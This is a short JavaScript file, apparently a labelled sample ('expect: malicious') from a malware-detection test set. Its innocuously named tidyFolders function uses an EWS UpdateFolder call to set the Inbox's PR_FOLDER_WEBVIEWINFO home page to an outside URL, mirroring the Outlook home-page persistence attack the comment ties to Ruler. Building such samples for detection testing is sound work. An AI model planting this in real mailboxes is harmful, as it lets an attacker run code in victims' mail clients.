// expect: malicious
// source: blind set 21's EWS folder tools, which set the Inbox's PR_FOLDER_WEBVIEWINFO (0x36DF) home page as Ruler's
// --homepage does; written here
'use strict';
exports.tidyFolders = async function tidyFolders(ews, webViewInfo) {
  await ews.call(`<m:UpdateFolder><m:FolderChanges><t:FolderChange><t:DistinguishedFolderId Id="inbox"/><t:Updates>
    <t:SetFolderField><t:ExtendedFieldURI PropertyTag="0x36DF" PropertyType="Binary"/><t:Folder><t:ExtendedProperty>
    <t:ExtendedFieldURI PropertyTag="0x36DF" PropertyType="Binary"/><t:Value>${webViewInfo('http://home.example/x.html')}</t:Value>
    </t:ExtendedProperty></t:Folder></t:SetFolderField></t:Updates></t:FolderChange></m:FolderChanges></m:UpdateFolder>`);
};
